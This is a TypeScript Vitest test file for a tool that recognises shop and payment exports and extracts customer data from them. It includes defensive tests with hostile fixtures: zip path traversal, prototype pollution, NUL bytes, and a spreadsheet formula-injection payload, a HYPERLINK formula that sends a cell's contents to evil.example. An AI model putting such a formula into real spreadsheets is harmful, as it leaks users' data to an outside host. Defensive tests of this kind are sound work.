import JSZip from 'jszip';
import { describe, expect, test } from 'vitest';
import { SYSTEM_IDS } from '../../src/lib/core/ids.ts';
import { sourceOf } from '../../src/lib/formats/byte-source.ts';
import { unpack } from '../../src/lib/formats/inflate.ts';
import { entryOf } from '../../src/lib/systems/entries.ts';
import { filesInZip } from '../../src/lib/systems/files-in-zip.ts';
import { SYSTEMS } from '../../src/lib/systems/index.ts';
import { SYSTEM_NAMES } from '../../src/lib/systems/names.ts';
import { recogniseFile } from '../../src/lib/systems/recognise-file.ts';
import { fixture, fixtureSource, textSource } from '../formats/fixture.ts';
import { readFile, readOnly, tableFile, valueOf } from './samples.ts';

describe('the register of systems', () => {
	test.each(SYSTEM_IDS)('%s is complete in both languages', (id) => {
		const entry = entryOf(id);
		expect([entry.id, entry.name]).toEqual([id, SYSTEM_NAMES[id]]);
		expect(SYSTEMS[id]).toMatchObject(entry);
		const words = [
			entry.purposes,
			entry.categories,
			entry.keptFor,
			...(entry.transfer ? [entry.transfer] : []),
		];
		for (const { nl, en } of words)
			expect([nl.length > 5, en.length > 5, nl !== en]).toEqual([true, true, true]);
		for (const { nl, en } of Object.values(entry.howTo)) {
			expect(nl.length).toBe(en.length);
			for (const step of [...nl, ...en]) expect(step).toMatch(/^[A-Z].*\.$/s);
		}
	});

	test('readers have names of their own', () => {
		for (const { readers } of Object.values(SYSTEMS))
			expect(new Set(readers.map(({ id }) => id)).size).toBe(readers.length);
	});
});

describe('certain headings', () => {
	const HEADINGS = [
		'Date',
		'Payment method',
		'Currency',
		'Amount',
		'Status',
		'ID',
		'Description',
		'Consumer name',
		'Consumer bank account',
	];
	const ROW = [
		'2024-01-02 10:11:12',
		'ideal',
		'EUR',
		'12.50',
		'paid',
		'tr_abcdefgh',
		'Order 77',
		'J. de Boer',
		'NL02ABNA0123456789',
	];

	test.each([
		['in another order', (row: string[]) => row.toReversed(), {}],
		['beside columns of their own', (row: string[]) => [...row, 'extra'], {}],
		[
			'saved again by Excel',
			(row: string[]) => row.map((cell) => cell.replace('12.50', '12,50')),
			{ delimiter: ';' },
		],
		['as Unicode text', (row: string[]) => row, { delimiter: '\t', encoding: 'utf16le' as const }],
		[
			'in capitals',
			(row: string[]) => row.map((cell) => (HEADINGS.includes(cell) ? cell.toUpperCase() : cell)),
			{},
		],
	])('are known %s', async (_, change, dialect) => {
		const part = await readOnly(tableFile([change(HEADINGS), change(ROW)], dialect));
		expect(part.recognition).toMatchObject({ type: 'recognised', system: 'mollie', reader: 'payments-csv' });
		expect(['order', 'name', 'iban', 'payment'].map((role) => valueOf(part.records[0], role))).toEqual([
			'Order 77',
			'J. de Boer',
			'NL02ABNA0123456789',
			'tr_abcdefgh',
		]);
	});

	test('one heading less, and the owner is asked', async () => {
		const part = await readOnly(
			tableFile([HEADINGS.filter((one) => one !== 'ID'), ROW.filter((_, at) => at !== 5)]),
		);
		expect(part.recognition.type).toBe('to-confirm');
	});
});

describe('quirks of live systems', () => {
	const order = (more: object) => ({
		number: '1001',
		uuid: 'x',
		date: '2024-01-01',
		debtor: { email: 'x@example.com' },
		...more,
	});
	const first = async (...orders: object[]) =>
		(await readOnly(textSource(JSON.stringify(orders)))).records[0];

	test.each([
		['a number as text', { number: '1001' }],
		['a number', { number: 1001 }],
		['tax as a list', { price: { tax: [{ amount: '1.00' }], total: '5.00' } }],
		['no country', { shipping: [{ country: [] }] }],
		['no address', { debtor: { email: 'x@example.com', address: [] } }],
		['nothing at all', { comments: null, orderlines: {} }],
	])('MyOnlineStore: %s', async (_, more) => {
		const record = await first(order(more));
		expect(record?.system).toBe('myonlinestore');
		expect([valueOf(record, 'order'), valueOf(record, 'email')]).toEqual(['1001', 'x@example.com']);
	});

	test('Mollie: one payment instead of a page', async () => {
		const payment = {
			resource: 'payment',
			id: 'tr_1',
			amount: { value: '1.00', currency: 'EUR' },
			metadata: { orderNr: 'W7', who: 'Jan' },
		};
		const record = (await readOnly(textSource(JSON.stringify(payment)))).records[0];
		expect(valueOf(record, 'order')).toBe('W7');
		expect(record?.fields.find(({ name }) => name === 'metadata.who')?.role).toBe('free-text');
	});

	test('PostNL: the sender is the shop, a pick-up point is a stranger', async () => {
		const address = (AddressType: string, Name: string) => ({
			AddressType,
			Name,
			Zipcode: '1234SA',
			HouseNr: '1',
		});
		const shipment = {
			Addresses: [address('02', 'Winkel'), address('01', 'Ontvanger'), address('09', 'Afhaalpunt')],
			Barcode: '3STEST',
		};
		const record = (await readOnly(textSource(JSON.stringify({ Shipments: [shipment] })))).records[0];
		expect(
			record?.fields.filter(({ role }) => role === 'last-name').map(({ value, party }) => [value, party]),
		).toEqual([
			['Winkel', 'other'],
			['Ontvanger', 'recipient'],
			['Afhaalpunt', 'other'],
		]);
	});
});

describe('what nobody knows', () => {
	test('JSON of an unknown shop is guessed field by field', async () => {
		const text = JSON.stringify({
			data: Array.from({ length: 12 }, (_, at) => ({
				id: 500 + at,
				billing: {
					first_name: 'Jan',
					last_name: `Smit ${'abcdefghijkl'[at]}`,
					email: `n${at}@example.com`,
					postcode: '1234 SA',
				},
				shipping: { first_name: 'An', last_name: `Vos ${'lkjihgfedcba'[at]}`, postcode: `23${10 + at} SD` },
			})),
		});
		const part = await readOnly(textSource(text, 100));
		expect(part.recognition.type).toBe('to-confirm');
		expect(part.records).toHaveLength(12);
		const meanings = part.records[3]?.fields.map(({ name, role, party }) => `${name} ${role} ${party}`);
		expect(meanings).toContain('billing.email email subject');
		expect(meanings).toContain('billing.last_name last-name subject');
		expect(meanings).toContain('shipping.last_name last-name recipient');
		expect(meanings).toContain('shipping.postcode postcode recipient');
	});

	test('settings, letters and pictures are no records', async () => {
		const of = async (text: string) => {
			const found = await recogniseFile(textSource(text));
			return found.ok ? found.value.map(({ type }) => type) : found.failure.type;
		};
		expect(await of('{"filters":[]}')).toEqual(['not-recognised']);
		expect(
			await of(
				'Beste mevrouw,\n\nU vroeg om inzage. Dat kan, maar wij hebben meer tijd nodig.\nGroet, de winkel',
			),
		).toBe('unknown-form');
		expect(await of('%PDF-1.7 x')).toBe('unknown-form');
	});

	test('the systems that the shop uses are suggested first', async () => {
		const found = await recogniseFile(fixtureSource('other/moneybird_contacts.xlsx'), {
			inUse: ['mollie', 'moneybird'],
		});
		const [part] = found.ok ? found.value : [];
		expect(part).toMatchObject({
			type: 'to-confirm',
			proposal: { systems: [{ system: 'moneybird', reason: 'kind-of-rows' }, {}, {}, {}, {}, {}, {}] },
		});
	});
});

describe('archives', () => {
	test('each file of a mailing list is recognised like a dropped one', async () => {
		const bytes = fixture('other/mailchimp_audience_export.zip');
		const source = sourceOf(bytes);
		expect((await readOnly(source)).recognition.type).toBe('archive');
		const listed = await filesInZip(source);
		if (!listed.ok) throw new Error(listed.failure.type);
		const counts = [];
		for (const { entry } of listed.value.files) {
			const parts: Uint8Array[] = [];
			for await (const piece of unpack(source, entry)) parts.push(piece.slice());
			const [part] = await readFile(sourceOf(new Uint8Array(Buffer.concat(parts))));
			expect(part?.recognition).toMatchObject({ type: 'recognised', system: 'mailchimp' });
			counts.push(part?.records.length);
			if (part?.records[0]) expect(valueOf(part.records[0], 'email')).toContain('@');
		}
		expect(counts.length).toBe(3);
		expect(counts[2]).toBe(0);
	});

	test('what macOS adds and what is empty is left out, what is refused is named', async () => {
		const zip = new JSZip();
		zip.file('a.csv', 'x');
		zip.file('__MACOSX/._a.csv', 'x');
		zip.file('leeg.csv', '');
		const listed = await filesInZip(sourceOf(await zip.generateAsync({ type: 'uint8array' })));
		expect(listed).toMatchObject({ ok: true, value: { files: [{ path: 'a.csv' }], refused: [] } });
		const unsafe = await filesInZip(fixtureSource('hostile/zip_path_traversal.zip'));
		expect(unsafe.ok && unsafe.value.refused.map(({ reason }) => reason)).toEqual([
			'unsafe-path',
			'unsafe-path',
			'unsafe-path',
		]);
	});
});

describe('broken and dangerous files', () => {
	test.each([
		['empty.csv', 'empty-file'],
		['bom_only.csv', 'empty-file'],
		['not_json.json', 'no-table'],
		['deep.json', 'too-deep'],
		['old_binary.xls', 'old-or-locked-office-file'],
		['encrypted_ole.xlsx', 'old-or-locked-office-file'],
		['xlsx_xml_entities.xlsx', 'broken-spreadsheet'],
	])('%s: %s', async (file, type) => {
		const found = await recogniseFile(fixtureSource(`hostile/${file}`));
		expect(found).toMatchObject({ ok: false, failure: { type } });
	});

	test('a cut-off list of orders names what could not be read', async () => {
		const part = await readOnly(fixtureSource('hostile/truncated.json'));
		expect(part.recognition).toMatchObject({ type: 'recognised', system: 'myonlinestore' });
		expect([part.records.length, part.unread]).toEqual([0, [{ place: 'row 1', reason: 'cut-off' }]]);
	});

	test.each([0.3, 0.6, 0.9])('orders cut off at %f: the records and the unread one add up', async (share) => {
		const bytes = fixture('myonlinestore/api_orders_v1.json.gz');
		const part = await readOnly(sourceOf(bytes.subarray(0, Math.floor(bytes.length * share))));
		const whole = (await readOnly(sourceOf(bytes))).records;
		expect(part.records).toEqual(whole.slice(0, part.records.length));
		expect(part.records.length).toBeGreaterThan(20);
		expect(part.unread).toEqual([{ place: `row ${part.records.length + 1}`, reason: 'cut-off' }]);
	});

	test.each([0.3, 0.7])('XML cut off at %f', async (share) => {
		const bytes = fixture('myonlinestore/api_orders_v1.xml.gz');
		const part = await readOnly(sourceOf(bytes.subarray(0, Math.floor(bytes.length * share))));
		expect(part.records.length).toBeGreaterThan(5);
		expect(part.unread).toEqual([{ place: `row ${part.records.length + 1}`, reason: 'cut-off' }]);
	});

	test('formulas are text', async () => {
		const { records } = await readOnly(fixtureSource('hostile/formula_injection.csv'));
		expect(records[0]?.fields[1]?.value).toBe('=HYPERLINK("http://evil.example/?"&B2;"klik")');
		expect(records[1]?.fields[1]?.value).toBe('+31600000001');
	});

	test('keys that touch prototypes do nothing', async () => {
		const { records } = await readOnly(fixtureSource('hostile/proto_pollution.json'));
		expect(records[0]?.fields.map(({ name }) => name)).toContain('__proto__.polluted');
		expect(Object.prototype).not.toHaveProperty('polluted');
	});

	test('numbers keep their digits', async () => {
		const { records } = await readOnly(fixtureSource('hostile/bignum.json'));
		expect(records[0]?.fields.map(({ value }) => value)).toEqual(['12345678901234567890', '1e400']);
	});

	test('a cell with a mark inside does not become an address', async () => {
		const { records } = await readOnly(fixtureSource('hostile/nul_bytes.csv'));
		expect(records.map(({ fields }) => fields[2]?.value)).toEqual(['x\0@example.com', 'y@example.com']);
	});
});
